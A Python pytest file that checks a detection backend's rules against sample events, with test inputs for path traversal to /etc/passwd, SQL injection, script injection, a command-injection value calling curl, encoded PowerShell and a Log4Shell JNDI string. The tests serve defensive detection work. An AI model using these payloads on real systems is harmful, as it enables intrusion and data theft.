"""The promises of the backend, on the project's own sample events. Run them with `python -m pytest`.

The fixtures `backend` and `sample_events` come with Packflow: `packflow env sync` puts it into `.venv`.
"""

import pytest

from packflow_runtime.testing import check_backend


def test_the_backend_keeps_its_promises(backend, sample_events):
    check_backend(backend, sample_events)


@pytest.mark.parametrize(
    ("text", "rule"),
    [
        ("GET /../../../etc/passwd", "path-traversal"),
        ("id=1 UNION SELECT password FROM users", "sql-injection"),
        ("q=<script>alert(1)</script>", "script-tag"),
        ("host=a; curl http://example.org/x", "shell-command"),
        ("powershell.exe -nop -enc SQBFAFgAIAAoAE4AZQB3", "encoded-powershell"),
        ("${jndi:ldap://example.org/a}", "log4shell"),
    ],
)
def test_a_rule_finds_what_it_is_for_wherever_it_lies(backend, text, rule):
    output = backend({"outer": {"inner": ["nothing", text]}})
    assert rule in [match["rule"] for match in output["matches"]]
    assert output["matches"][0]["field"] == "outer.inner"


def test_ordinary_text_matches_nothing(backend):
    assert backend({"path": "/a/../b", "n": 3}) == {"severity": 0, "count": 0, "matches": []}


def test_a_rule_for_some_fields_leaves_the_others_alone(backend):
    assert backend({"user_agent": "sqlmap/1.8"})["count"] == 1
    assert backend({"comment": "sqlmap/1.8"})["count"] == 0
